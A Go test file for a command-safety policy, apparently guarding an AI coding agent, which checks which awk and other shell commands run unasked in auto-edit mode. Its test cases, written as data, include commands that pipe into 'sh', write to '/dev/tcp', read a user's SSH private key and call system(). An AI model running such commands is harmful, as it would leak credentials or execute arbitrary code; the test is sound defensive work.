package safety_test

import (
	"bufio"
	"os"
	"strings"
	"testing"

	"troupe/internal/safety"
)

// maxAskedReadOnly is how many of the corpus's read-only commands
// auto-edit may still ask about (issue 28: at most 5).
const maxAskedReadOnly = 5

// TestReadOnlyCorpus runs the read-only commands of peers' allow-lists
// (testdata/readonly_corpus.txt) through auto-edit mode: at most
// maxAskedReadOnly of those marked A are asked, and every one marked Q
// (network, a program run, a file written) is asked.
func TestReadOnlyCorpus(t *testing.T) {
	f, err := os.Open("testdata/readonly_corpus.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	p := &safety.Policy{Mode: safety.ModeAutoEdit}
	var readOnly, asked int
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		fields := strings.SplitN(line, "\t", 3)
		if len(fields) != 3 {
			t.Fatalf("bad corpus line %q", line)
		}
		want, source, cmd := fields[0], fields[1], fields[2]
		d := p.Decide(bash(cmd))
		switch want {
		case "A":
			readOnly++
			if d.Verdict != safety.Allow {
				asked++
				t.Logf("asked (%s): %q: %s", source, cmd, d)
			}
		case "Q":
			if d.Verdict == safety.Allow {
				t.Errorf("allowed (%s): %q must be asked: %s", source, cmd, d)
			}
		default:
			t.Fatalf("bad verdict in %q", line)
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	t.Logf("%d of %d read-only commands asked", asked, readOnly)
	if asked > maxAskedReadOnly {
		t.Errorf("%d of %d read-only commands asked, want at most %d", asked, readOnly, maxAskedReadOnly)
	}
}

// TestReadOnlyAwk: awk runs unasked only when its program cannot run a
// program or write a file.
func TestReadOnlyAwk(t *testing.T) {
	tests := []struct {
		cmd  string
		want safety.Verdict
	}{
		{`awk '{print $1}' f.txt`, safety.Allow},
		{`awk -F, -v OFS='\t' '{print $2, $1}' f.csv`, safety.Allow},
		{`awk '$3 > 1000 {print $1}' f`, safety.Allow},
		{`awk '{print ($1 > 5)}' f`, safety.Allow},
		{`awk '/a|b/ {n++} END {print n}' f`, safety.Allow},
		{`awk '{ if ($1 ~ /x[/]y/) print }' f`, safety.Allow},
		{`awk '$1 == "a|b" || $2 {print}' f`, safety.Allow},
		{`awk 'NR % 2 == 0 {x = $1 / 2; print x}' f`, safety.Allow},
		{`awk '{getline; print}' f`, safety.Allow},
		{`awk -e '{print}' f`, safety.Allow},
		{`awk '# print | "sh"` + "\n" + `{print}' f`, safety.Allow},
		{`awk '{print $1 > "out"}' f`, safety.Ask},
		{`awk '{print $1 >> "out"}' f`, safety.Ask},
		{`awk '{printf "%s", $1 > "/dev/tcp/x/1"}' f`, safety.Ask},
		{`awk '{print | "sh"}' f`, safety.Ask},
		{`awk '{print |& "sh"}' f`, safety.Ask},
		{`awk 'BEGIN {"id" | getline x; print x}'`, safety.Ask},
		{`awk 'BEGIN {while ((getline l < "/home/u/.ssh/id_rsa") > 0) print l}'`, safety.Ask},
		{`awk 'BEGIN {system("id")}'`, safety.Ask},
		{`awk 'BEGIN {f = "system"; @f("id")}'`, safety.Ask},
		{`awk '@load "filefuncs"; {print}' f`, safety.Ask},
		{`awk '/"/ {print | "sh"}' f`, safety.Ask},
		{`awk '{x = 4 / 2; print | "sh"}' f`, safety.Ask},
		{`awk 'BEGIN {print "a" > "b` + `"}'`, safety.Ask},
		{`awk '{print "unterminated}' f`, safety.Ask},
		{`awk -f prog.awk f`, safety.Ask},
		{`awk -i inplace '{print}' f`, safety.Ask},
		{`awk -l ./lib.so '{print}' f`, safety.Ask},
		{`awk -o out.awk '{print}' f`, safety.Ask},
		{`awk -p '{print}' f`, safety.Ask},
		{`mawk -W exec prog f`, safety.Ask},
		{`gawk --profile=/tmp/x '{print}' f`, safety.Ask},
		{`awk "$PROG" f`, safety.Ask},
	}
	p := &safety.Policy{Mode: safety.ModeAutoEdit}
	for _, tt := range tests {
		if d := p.Decide(bash(tt.cmd)); d.Verdict != tt.want {
			t.Errorf("%q = %s, want %s", tt.cmd, d, tt.want)
		}
	}
}
